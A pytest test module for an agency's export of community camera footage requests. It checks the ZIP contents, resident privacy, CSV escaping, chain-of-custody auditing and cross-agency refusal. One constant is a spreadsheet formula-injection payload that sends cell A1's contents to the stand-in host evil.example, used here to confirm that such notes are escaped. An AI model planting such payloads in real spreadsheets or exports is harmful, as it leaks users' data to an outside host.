"""An agency's export of a footage request on both databases: what the ZIP holds, that it
names nobody who was asked or declined (checked against the database's own list of them),
that its CSV cells cannot run as formulas, and that it is audited as chain of custody.

The request and its residents sit in Chicago, away from the other modules' areas, so nobody
else's residents are asked here and none of these are asked there."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from community.export import SHARE_COLUMNS
from console.accounts.users import create_user
from store.spreadsheet import unescape_cell
from store.tables import (
    AuditEvent,
    CommunityCamera,
    RequestRecipient,
    ResidentProfile,
    ShareFile,
    User,
)
from tests.community.residents import SeededResident, add_resident
from tests.console.conftest import PASSWORD, Caller, World, session_headers, token_headers

SAMPLES = Path(__file__).resolve().parents[3] / "shared" / "data" / "samples"
CHICAGO = (41.8781, -87.6298)
CASE = "2025-008801"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"porch")'


@dataclass
class Exported:
    request_id: int
    residents: dict[str, SeededResident]
    clip: bytes
    photo: bytes
    response: Any


def _near(dlat: float, dlon: float) -> tuple[float, float]:
    return CHICAGO[0] + dlat, CHICAGO[1] + dlon


def _share(caller: Caller, request_id: int, name: str, data: bytes, **form: str) -> None:
    shared = caller.post(
        f"/api/community/portal/requests/{request_id}/share",
        files=[("files", (name, data, "application/octet-stream"))],
        data=form,
    )
    assert shared.status_code == 201, shared.text


@pytest.fixture(scope="module")
def exported(world: World, client: TestClient) -> Exported:
    tag = world.url.split(":", 1)[0][:2]
    with world.session() as s:
        create_user(
            s, actor="test", username=f"sup_x{tag}", role="supervisor",
            agency_id=world.ids["metro"], password=PASSWORD,
        )  # fmt: skip
        residents = {
            "sharer": add_resident(s, f"xsharer{tag}", camera_at=_near(0.001, 0.0011)),
            "listed": add_resident(
                s, f"xlisted{tag}", camera_at=_near(0.0015, 0.0013), listed=True
            ),
            "decliner": add_resident(s, f"xdecliner{tag}", camera_at=_near(-0.001, -0.0017)),
            "silent": add_resident(s, f"xsilent{tag}", camera_at=_near(-0.0015, 0.0019)),
        }
        # The contact the listed owner chose to give (the helper's names the username).
        s.get_one(CommunityCamera, residents["listed"].camera_id).contact = "Shop desk 555-0199"
        s.commit()
    officer = Caller(client, session_headers(world, "officer_a"))
    supervisor = Caller(client, token_headers(world, f"sup_x{tag}"))
    now = datetime.now(UTC)
    created = officer.post(
        "/api/community/requests",
        json={
            "case_number": CASE,
            "public_summary": "Hit and run on Wacker Dr",
            "details": "dark SUV, front damage",
            "starts_at": (now - timedelta(hours=6)).isoformat(),
            "ends_at": (now - timedelta(hours=5)).isoformat(),
            "area": {"lat": CHICAGO[0], "lon": CHICAGO[1], "radius_m": 500},
            "contact": "Det. Novak, 555-0177",
        },
    )
    assert created.status_code == 201, created.text
    request_id = created.json()["id"]
    decided = supervisor.post(
        f"/api/community/requests/{request_id}/decision", json={"approve": True}
    )
    assert decided.status_code == 200, decided.text
    callers = {k: Caller(client, session_headers(world, r.username)) for k, r in residents.items()}
    clip = (SAMPLES / "license_plate.mp4").read_bytes()
    photo = (SAMPLES / "car.jpg").read_bytes()
    _share(
        callers["sharer"], request_id, "porch.mp4", clip,
        camera_id=str(residents["sharer"].camera_id), note=FORMULA_NOTE,
    )  # fmt: skip
    _share(
        callers["listed"], request_id, "shop.jpg", photo,
        camera_id=str(residents["listed"].camera_id), note="shop front",
    )  # fmt: skip
    declined = callers["decliner"].post(f"/api/community/portal/requests/{request_id}/decline")
    assert declined.status_code == 204
    response = officer.get(f"/api/community/requests/{request_id}/export")
    return Exported(request_id, residents, clip, photo, response)


def _members(exported: Exported) -> dict[str, bytes]:
    assert exported.response.status_code == 200, exported.response.text
    with zipfile.ZipFile(io.BytesIO(exported.response.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_the_export_holds_the_request_its_shares_and_their_files(exported: Exported) -> None:
    response = exported.response
    assert response.headers["content-type"] == "application/zip"
    disposition = response.headers["content-disposition"]
    assert f'footage-request-{exported.request_id}-{CASE}.zip"' in disposition
    members = _members(exported)
    request = {r["field"]: r["value"] for r in _rows(members["request.csv"])}
    assert request["case_number"] == CASE and request["status"] == "approved"
    assert request["shares"] == "2" and request["exported_by"] == "officer_a"
    shares = _rows(members["shares.csv"])
    assert tuple(shares[0]) == SHARE_COLUMNS
    by_type = {r["content_type"]: r for r in shares}
    porch, shop = by_type["video/mp4"], by_type["image/jpeg"]
    assert members[porch["file"]] == exported.clip and members[shop["file"]] == exported.photo
    assert porch["state"] == shop["state"] == "included"
    sums = members["SHA256SUMS"].decode().splitlines()
    assert sorted(sums) == sorted(f"{r['sha256']}  {r['file']}" for r in shares)
    assert porch["sha256"] == hashlib.sha256(exported.clip).hexdigest()
    # The unlisted camera only as its cell; the listed one exact, with its contact.
    assert porch["cell"] and porch["exact_lat"] == porch["contact"] == ""
    # Negative numbers get the quote too (OWASP: numbers are not exempt): western longitudes.
    assert shop["exact_lon"].startswith("'-")
    exact = (float(unescape_cell(shop["exact_lat"])), float(unescape_cell(shop["exact_lon"])))
    assert exact == _near(0.0015, 0.0013)
    assert shop["contact"] == "Shop desk 555-0199"
    # A resident's note that a spreadsheet would run stays text.
    assert porch["note"] == "'" + FORMULA_NOTE


def test_the_export_names_nobody_who_was_asked_or_declined(
    exported: Exported, world: World
) -> None:
    members = _members(exported)
    with world.session() as s:
        recipients = s.execute(
            select(RequestRecipient.state, User, ResidentProfile)
            .join(User, User.id == RequestRecipient.user_id)
            .join(ResidentProfile, ResidentProfile.user_id == User.id)
            .where(RequestRecipient.request_id == exported.request_id)
        ).all()
        states = sorted(state for state, _, _ in recipients)
        assert states == ["asked", "declined", "shared", "shared"]
        secrets = []
        for _, user, profile in recipients:
            secrets += [user.username, user.display_name, profile.email, profile.address]
            for camera in s.scalars(
                select(CommunityCamera).where(CommunityCamera.owner_user_id == user.id)
            ):
                secrets.append(camera.label)
                if not camera.listed:
                    secrets += [str(camera.latitude), str(camera.longitude)]
    for name, data in members.items():
        text = data.decode(errors="replace") if not name.startswith("files/") else name
        for secret in secrets:
            assert secret not in text, (name, secret)
        if name.endswith(".csv"):
            lowered = text.lower()
            for word in ("asked", "declin", "recipient", "ignored"):
                assert word not in lowered, (name, word)


def test_the_export_is_audited_as_chain_of_custody(exported: Exported, world: World) -> None:
    members = _members(exported)
    files = [r for r in _rows(members["shares.csv"]) if r["state"] == "included"]
    with world.session() as s:
        events = s.execute(
            select(AuditEvent)
            .where(AuditEvent.case_number == CASE, AuditEvent.actor == "officer_a")
            .order_by(AuditEvent.id)
        ).scalars()
        mine = [(e.action, e.subject, e.detail) for e in events]
    downloads = {subject for action, subject, _ in mine if action == "share_file.download"}
    assert downloads == {f"share_file:{r['file_id']}" for r in files}
    [export] = [detail for action, _, detail in mine if action == "footage_request.export"]
    assert export["request_id"] == exported.request_id and export["files"] == 2
    assert export["archive_sha256"] == hashlib.sha256(exported.response.content).hexdigest()
    scratch = world.image_root / "community" / ".scratch"
    assert not list(scratch.glob("export-*.zip"))  # sent, then deleted


def test_another_agency_cannot_export_and_leaves_no_audit_entry(
    exported: Exported, world: World, by_token: dict[str, Caller], as_user: dict[str, Caller]
) -> None:
    def exports() -> int:
        with world.session() as s:
            query = select(AuditEvent.id).where(AuditEvent.action == "footage_request.export")
            return len(s.scalars(query).all())

    before = exports()
    for caller in (by_token["officer_b"], as_user["officer_b"]):
        refused = caller.get(f"/api/community/requests/{exported.request_id}/export")
        assert refused.status_code == 404
        assert f"no footage request {exported.request_id} of your agency" in refused.text
    assert exports() == before
    page = as_user["officer_a"].get(f"/community/requests/{exported.request_id}")
    assert f'href="/api/community/requests/{exported.request_id}/export"' in page.text


def test_a_file_gone_from_storage_is_listed_not_packed(
    exported: Exported, world: World, as_user: dict[str, Caller]
) -> None:
    shop = next(r for r in _rows(_members(exported)["shares.csv"]) if r["note"] == "shop front")
    with world.session() as s:
        row = s.get_one(ShareFile, int(shop["file_id"]))
        (world.image_root / row.path).unlink()
    again = as_user["officer_a"].get(f"/api/community/requests/{exported.request_id}/export")
    assert again.status_code == 200
    with zipfile.ZipFile(io.BytesIO(again.content)) as archive:
        names = archive.namelist()
        rows = _rows(archive.read("shares.csv"))
    listed = next(r for r in rows if r["file_id"] == shop["file_id"])
    assert (listed["state"], listed["file"], listed["sha256"]) == (
        "missing from storage",
        "",
        shop["sha256"],
    )
    assert shop["file"] not in names
    assert [r["state"] for r in rows if r["file_id"] != shop["file_id"]] == ["included"]
